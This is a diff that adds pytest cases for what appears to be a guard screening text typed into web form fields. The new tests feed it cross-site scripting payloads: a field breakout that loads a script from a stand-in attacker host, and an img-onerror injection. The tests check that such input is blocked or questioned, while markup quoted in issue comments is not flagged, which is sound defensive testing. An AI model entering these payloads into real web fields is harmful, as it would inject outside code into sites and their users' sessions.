@@ -232,3 +232,27 @@ def test_generic_address_fields_off_the_settings_pages_do_not_ask_as_account_fie
 def test_a_generic_address_field_on_a_settings_page_asks():
     got = assess("sam@example.net", "Contact email", "https://admin.example-store.com/admin/settings/general")
     assert "confirm.typed.account-address" in fired(got)
+
+
+# -- markup that breaks out of an ordinary web field ---------------------------------------------------------
+
+
+def test_markup_breaking_out_of_a_field_to_load_outside_code_blocks():
+    got = assess('"><script src=https://hook.attackercdn.net/h.js></script>', "Display name",
+                 "https://shop.example.com/account/profile")
+    assert got.decision is Decision.BLOCK
+    assert "block.typed.site-script" in fired(got)
+
+
+def test_markup_breaking_out_of_a_field_asks():
+    got = assess("Jane'><img src=x onerror=alert(1)>", "Display name", "https://shop.example.com/account/profile")
+    assert got.decision is not Decision.ALLOW
+
+
+@pytest.mark.parametrize("text", [
+    'Add <script src="https://cdn.example.org/a.js"></script> to the page, then reload',  # markup written about
+    'The value="x"><b>bold</b> shows unescaped',  # a bug report quoting what the page printed
+])
+def test_markup_quoted_in_an_issue_is_no_breakout(text):
+    got = assess(text, "Comment", "https://code.example.com/org/repo/issues/3")
+    assert not {"block.typed.site-script", "confirm.typed.site-script"} & fired(got)
